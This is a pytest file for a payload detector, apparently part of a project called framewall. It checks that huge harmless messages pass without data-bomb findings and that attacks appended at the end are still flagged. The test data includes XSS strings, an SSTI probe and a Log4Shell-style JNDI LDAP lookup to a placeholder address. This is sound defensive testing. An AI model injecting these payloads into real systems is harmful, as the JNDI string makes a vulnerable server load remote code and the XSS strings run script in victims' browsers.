"""Size alone is no attack, and hides none."""

from __future__ import annotations

import json
import random
from collections.abc import Callable

import pytest

from framewall.detect import builtin_engine
from support.bulk import KINDS, prose

WAYS: dict[str, Callable[[str], bytes]] = {
    "a field": lambda text: json.dumps({"type": "msg", "text": text}).encode(),
    "lines": lambda text: json.dumps([{"user": "ann", "text": line} for line in text.splitlines()]).encode(),
    "bare": lambda text: text.encode(),
}


def rules(message: bytes) -> set[str]:
    return {finding.rule for finding in builtin_engine().inspect([(message, "auto", False)]).findings}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("kib", [64, 256, 1024])
@pytest.mark.parametrize("kind", KINDS)
def test_much_of_something_harmless_passes(kind: str, kib: int, way: str) -> None:
    assert rules(WAYS[way](KINDS[kind](kib << 10, random.Random(kib)))) == set()


@pytest.mark.parametrize("kind", ["prose", "markdown", "other scripts", "source"])
@pytest.mark.parametrize(
    ("attack", "rule"),
    [
        ("<img src=x onerror=alert(1)>", "xss.markup"),
        ("%3Cimg src=x onerror=alert(1)%3E", "xss.markup"),
        ("&lt;img src=x on\\u0065rror=alert(1)&gt;", "xss.markup"),
        ("{{7*7}}", "ssti.arithmetic"),
        ("${jndi:ldap://203.0.113.9/a}", "jndi.lookup"),
    ],
)
def test_an_attack_at_the_end_of_a_mebibyte_is_found(kind: str, attack: str, rule: str) -> None:
    text = KINDS[kind](1 << 20, random.Random(1)) + " " + attack
    found = rules(json.dumps({"text": text}).encode())
    assert rule in found
    assert not any(name.startswith("data_bomb") for name in found)


def test_an_array_of_half_a_million_numbers_passes() -> None:
    assert rules(b"[" + b"1," * 500_000 + b"1]") == set()


def test_a_picture_before_an_attack_hides_nothing() -> None:
    text = KINDS["picture"](256 << 10, random.Random(3)) + " <script>alert(1)</script>"
    assert "xss.markup" in rules(json.dumps({"text": text}).encode())


def test_disguises_far_apart_cost_no_more_than_their_places() -> None:
    draw = random.Random(2)
    signs = ["%20", "&amp;", "\\u0041", "“", "O\\'Brien", "=3D", "/* */", "$1"]
    text = " ".join(f"{prose(400, draw)} {draw.choice(signs)}" for _ in range(600))
    assert not any(name.startswith("data_bomb") for name in rules(json.dumps({"text": text}).encode()))
